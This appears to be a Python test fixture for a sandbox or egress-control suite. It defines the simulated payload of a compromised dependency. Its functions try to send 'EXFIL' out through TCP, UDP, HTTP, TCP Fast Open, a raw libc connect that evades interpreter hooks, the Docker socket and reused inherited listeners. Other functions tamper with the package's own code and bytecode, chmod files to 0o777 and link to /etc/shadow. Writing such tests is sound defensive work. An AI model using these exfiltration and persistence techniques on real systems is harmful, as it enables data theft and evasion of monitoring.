"""How a turned dependency gets away with it, and stays. Text of the payload."""

import asyncio
import ctypes
import errno
import os
import socket
import struct
import urllib.request
from collections.abc import Callable
from pathlib import Path

from tests.replay.reach import TARGETS, home, port, written

FASTOPEN = 0x2000_0000


# -- ways out ------------------------------------------------------------------------------------------------


def sent_by(family: int, kind: int, protocol: int, address: tuple[str, int]) -> str:
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(1)
        sock.connect(address)
        sock.send(b"EXFIL")
    return "sent"


def datagram() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"EXFIL", port("udp"))
    return "sent"


def by_loop() -> str:
    """Through an event loop's own connect, in a thread of its own where one runs already."""

    async def dial() -> None:
        _, writer = await asyncio.open_connection(*port())
        writer.write(b"EXFIL")
        await writer.drain()
        writer.close()

    loop = asyncio.SelectorEventLoop()
    try:
        asyncio._set_running_loop(None)
        loop.run_until_complete(asyncio.wait_for(dial(), 2))
    finally:
        loop.close()
    return "sent"


def post() -> str:
    host, number = port()
    try:
        urllib.request.urlopen(f"http://{host}:{number}/", b"EXFIL", 0.3).close()
    except TimeoutError:
        return "sent, no answer awaited"
    return "sent"


def fast_open() -> str:
    with socket.socket() as sock:
        sock.sendto(b"EXFIL", FASTOPEN, port())
    return "sent"


def fast_open_connect() -> str:
    with socket.socket() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCPFASTOPEN_CONNECT
        sock.connect(port())
        sock.send(b"EXFIL")
    return "sent"


def by_libc() -> str:
    """Connect by the C library, where no hook of the interpreter's looks."""
    library = ctypes.CDLL(None, use_errno=True)
    fd = library.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("=HHI8x", socket.AF_INET, socket.htons(port()[1]), socket.htonl(0x7F00_0001))
    buffer = ctypes.create_string_buffer(address, len(address))
    if fd < 0 or library.connect(fd, buffer, len(address)) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.write(fd, b"EXFIL")
    os.close(fd)
    return "sent"


def opened(family: int, kind: int, protocol: int = 0) -> str:
    socket.socket(family, kind, protocol).close()
    return "opened"


def unix_path() -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(TARGETS["docker"])
    return "connected"


def unix_abstract() -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0" + TARGETS["abstract"])
    return "connected"


def backdoor() -> str:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen()
    return "listens"


def _listener() -> socket.socket:
    """Return an inherited listener, or where there is none one of its own."""
    for fd in range(3, 256):
        try:
            sock = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        if sock.family == socket.AF_INET and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            return sock
        sock.close()
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    return sock


def listener_turned(way: Callable[[socket.socket], object]) -> str:
    with _listener() as sock:
        try:
            sock.shutdown(socket.SHUT_RDWR)
        except OSError as error:
            if error.errno != errno.EPERM:
                raise
            # Refused: then try without.
        way(sock)
    return "sent"


def connected(sock: socket.socket) -> None:
    sock.connect(port())
    sock.send(b"EXFIL")


def addressed() -> str:
    """Give an address to a socket that is there already."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        ours.sendto(b"EXFIL", TARGETS["docker"] + ".datagrams")
    return "sent"


# -- staying -------------------------------------------------------------------------------------------------


def _changed(path: str) -> str:
    with open(path, "ab") as file:  # noqa: PTH123 - for appending nothing
        file.write(b"")
    return "was opened for writing"


def own_code() -> str:
    return _changed(str(TARGETS["package"]) + "/egress/process.py")


def own_bytecode() -> str:
    folder = Path(TARGETS["package"]) / "egress" / "__pycache__"
    return written(folder / "replay.pyc")


def renamed() -> str:
    os.rename(home("movable"), home("moved"))  # noqa: PTH104 - as an attacker would
    os.rename(home("moved"), home("movable"))  # noqa: PTH104
    return "renamed"


def mode() -> str:
    os.chmod(home("movable"), 0o777)  # noqa: PTH101
    return "changed a file's mode"


def linked() -> str:
    link = home(f"link-{os.getpid()}")
    os.symlink("/etc/shadow", link)  # noqa: PTH211
    link.unlink()
    return "made a link"
